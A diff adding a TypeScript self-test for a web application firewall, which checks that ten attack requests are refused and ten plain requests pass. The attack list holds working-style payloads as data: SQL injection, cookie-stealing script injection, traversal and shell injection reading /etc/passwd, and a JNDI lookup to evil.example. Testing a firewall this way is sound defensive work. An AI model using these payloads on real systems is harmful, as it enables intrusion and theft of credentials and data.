@@ -1,0 +1,122 @@
+import { fieldsByName, type Field, type RequestHead } from '@sallyport/contracts';
+import { Engine, type InspectionAnswer, type RulesInForce } from '@sallyport/waf';
+
+/** A request as plain as it gets: what differs is what the self-test is about. */
+interface Probe {
+  readonly name: string;
+  readonly method?: string;
+  readonly path?: string;
+  readonly query?: string;
+  readonly fields?: readonly Field[];
+  readonly mediaType?: string;
+  readonly body?: string;
+}
+
+const form = 'application/x-www-form-urlencoded';
+const json = 'application/json';
+
+/** One of each kind that every rule set refuses at paranoia level 1. */
+const attacks: readonly Probe[] = [
+  { name: 'SQL injection in a query', query: "id=1'%20OR%20'1'='1'%20--%20" },
+  { name: 'SQL injection by UNION', query: 'id=-1%20UNION%20SELECT%20username,password%20FROM%20users--' },
+  { name: 'SQL injection in a form', method: 'POST', mediaType: form, body: "user=admin'%20or%201=1--%20" },
+  { name: 'script in a query', query: 'q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' },
+  { name: 'event handler in a form', method: 'POST', mediaType: form, body: 'q=%3Cimg%20src=x%20onerror=alert(1)%3E' },
+  { name: 'climb to a file of the system', query: 'file=../../../../etc/passwd' },
+  { name: 'command of a shell', query: 'host=127.0.0.1;cat%20/etc/passwd' },
+  { name: 'command in JSON', method: 'POST', mediaType: json, body: '{"host":"a; cat /etc/passwd"}' },
+  {
+    name: 'SQL injection in JSON',
+    method: 'POST',
+    mediaType: json,
+    body: '{"id":"1\' UNION SELECT password FROM users -- "}',
+  },
+  { name: 'lookup of a logger', query: 'q=$%7Bjndi:ldap://evil.example/a%7D' },
+];
+
+const plain: readonly Probe[] = [
+  { name: 'a page of a list', query: 'page=2&sort=name' },
+  { name: 'a search', query: 'q=red+shoes+size+42' },
+  { name: 'one item', path: '/orders/8f3c2d10' },
+  { name: 'a form', method: 'POST', mediaType: form, body: 'name=Ann+Smith&city=Leeds&note=second+floor' },
+  { name: 'a small document', method: 'POST', mediaType: json, body: '{"item":"lamp","count":2,"gift":false}' },
+  { name: 'nested JSON', method: 'POST', mediaType: json, body: '{"order":{"lines":[{"sku":"A-1","n":1}]}}' },
+  { name: 'a date range', query: 'from=2026-01-01&to=2026-02-01' },
+  { name: 'a cookie', fields: [{ name: 'cookie', value: 'session=4f9c21; theme=dark' }] },
+  { name: 'a list of ids', query: 'id=1&id=2&id=3' },
+  { name: 'no question at all' },
+];
+
+const PLAN = 'structural:block';
+const MEASURED_ROUNDS = 20;
+
+/** What a rule set is worth before it is let at requests. */
+export interface SelfTest {
+  /** What is wrong, in words; empty: nothing. */
+  readonly faults: readonly string[];
+  /** Processor time of one plain request, warm, in microseconds. */
+  readonly cpuMicros: number;
+}
+
+/** Ten attacks are refused, ten plain requests pass, and it is known what one of them costs. */
+export async function selfTest(rules: RulesInForce | undefined): Promise<SelfTest> {
+  const engine = new Engine({ rules: () => rules });
+  const faults: string[] = [];
+  for (const probe of attacks) if (!(await isRefused(engine, probe))) faults.push(`does not refuse: ${probe.name}`);
+  for (const probe of plain) if (await isRefused(engine, probe)) faults.push(`refuses: ${probe.name}`);
+  const before = process.cpuUsage();
+  for (let round = 0; round < MEASURED_ROUNDS; round++) for (const probe of plain) await isRefused(engine, probe);
+  const { user, system } = process.cpuUsage(before);
+  return { faults, cpuMicros: Math.round((user + system) / (MEASURED_ROUNDS * plain.length)) };
+}
+
+function isRefused(engine: Engine, probe: Probe): Promise<boolean> {
+  const { body } = probe;
+  return new Promise((resolve) => {
+    const last = body === undefined ? 'request-head' : 'request-body';
+    const hear = ({ verdict, point }: InspectionAnswer): void => {
+      if (verdict === 'refuse') resolve(true);
+      else if (point === last) resolve(false);
+    };
+    const inspection = engine.open(
+      { head: headOf(probe), plan: PLAN, tenant: 'default', requestId: 'self-test' },
+      hear,
+    );
+    if (body === undefined) return;
+    inspection.body(Buffer.from(body));
+    inspection.bodyEnd();
+  });
+}
+
+function headOf({ method = 'GET', path = '/orders', query = '', fields = [], mediaType, body }: Probe): RequestHead {
+  const framing: Field[] =
+    body === undefined
+      ? []
+      : [
+          { name: 'content-type', value: mediaType! },
+          { name: 'content-length', value: String(body.length) },
+        ];
+  const all: Field[] = [
+    { name: 'host', value: 'shop.example' },
+    { name: 'user-agent', value: 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0' },
+    { name: 'accept', value: '*/*' },
+    ...framing,
+    ...fields,
+  ];
+  return {
+    method,
+    scheme: 'http',
+    authority: 'shop.example',
+    path,
+    query,
+    hasQuery: query !== '',
+    rawTarget: query === '' ? path : `${path}?${query}`,
+    version: '1.1',
+    fields: all,
+    field: fieldsByName(all),
+    clientAddress: '192.0.2.7',
+    contentLength: body?.length,
+    hasBody: body !== undefined,
+    mediaType,
+  };
+}
